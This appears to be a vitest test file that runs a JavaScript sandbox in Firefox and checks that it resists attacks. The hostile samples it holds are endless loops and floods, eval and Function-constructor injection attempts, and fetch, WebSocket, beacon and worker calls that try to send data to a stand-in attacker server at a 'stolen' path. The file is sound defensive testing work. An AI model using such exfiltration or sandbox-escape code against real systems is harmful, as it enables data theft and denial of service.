/**
 * A smoke set of the attacks in Firefox. It runs where Firefox is installed (`firefox-esr` on
 * Debian) or `FIREFOX_PATH` names one; elsewhere the test's name says that it did not run.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAttacker, type Attacker } from './attacker.ts';
import { findFirefox, openFirefox, type FirefoxPage } from './firefox.ts';
import type { Outcome, RunRequest } from './page/main.ts';
import { openSite, type TestSite } from './site.ts';

const firefox = findFirefox();

describe.skipIf(firefox === undefined)(
  firefox === undefined
    ? 'Firefox is not installed here, so its attacks were not run (install firefox-esr)'
    : 'in Firefox',
  () => {
    let site: TestSite;
    let attacker: Attacker;
    let page: FirefoxPage;

    beforeAll(async () => {
      attacker = await startAttacker();
      site = await openSite();
      page = await openFirefox(firefox ?? '', site.server.url);
    }, 120_000);
    afterAll(async () => {
      await page.close();
      await site.close();
      await attacker.close();
    });

    const run = async (request: RunRequest): Promise<Outcome> =>
      JSON.parse(
        await page.evaluate(
          `globalThis.fermata.run(${JSON.stringify(request)}).then((outcome) => JSON.stringify(outcome))`,
        ),
      ) as Outcome;

    it('a program runs and gives a trace', async () => {
      const { outcome, printed } = await run({
        source: `const response = await fetch('https://api.example.com/users/1');
          console.log(response.status, await new Promise((resolve) => setTimeout(() => resolve('later'), 60_000)));`,
      });
      expect({ outcome, printed }).toEqual({ outcome: 'finished', printed: ['200 later'] });
    });

    it.each([
      ['an endless loop', `await 0;\nfor (;;);`],
      ['an endless loop of promises', `for (;;) await 0;`],
      ['a search in a huge length', `Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1);`],
      ['a flood', `for (let i = 0; ; i += 1) console.log('flood', i);`],
    ])('%s is stopped, and the next program runs', async (_name, source) => {
      const stopped = await run({ source, limits: { wallMs: 500, events: 500_000 } });
      expect(stopped.message).toMatch(/^Stopped/);
      expect((await run({ source: `console.log('next')` })).printed).toEqual(['next']);
    });

    it('no text becomes code', async () => {
      const { printed } = await run({
        source: `const ways = [() => eval('1'), () => new Function('return 1')(), () => (async () => {}).constructor('return 1')(), () => setTimeout('1' as any)];
          for (const way of ways) { try { way(); console.log('open'); } catch { console.log('shut'); } }`,
      });
      expect(printed).toEqual(['shut', 'shut', 'shut', 'shut']);
    });

    it('a stranger hears nothing', async () => {
      const url = JSON.stringify(`${attacker.url}stolen`);
      const { printed } = await run({
        source: `const world = globalThis as any;
          const ways = [() => fetch(${url}), () => new world.XMLHttpRequest(), () => new world.WebSocket(${url}), () => new world.EventSource(${url}), () => world.importScripts(${url}), () => new world.Worker(${url}), () => world.navigator.sendBeacon(${url}), () => world.indexedDB.open('x'), () => world.caches.open('x'), () => new world.BroadcastChannel('x')];
          for (const way of ways) { try { await way(); console.log('open'); } catch { console.log('shut'); } }`,
      });
      expect(printed).toEqual(Array(10).fill('shut'));
      expect(attacker.hits).toEqual([]);
    });

    it('the frame refuses to run in a frame of our own origin', async () => {
      const said = await page.evaluate(`(async () => {
        const frame = document.createElement('iframe');
        frame.src = 'runner.html';
        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
        document.body.append(frame);
        await loaded;
        const text = frame.contentDocument?.body.textContent ?? '';
        frame.remove();
        return text;
      })()`);
      expect(said).toContain('does nothing by itself');
    });
  },
);
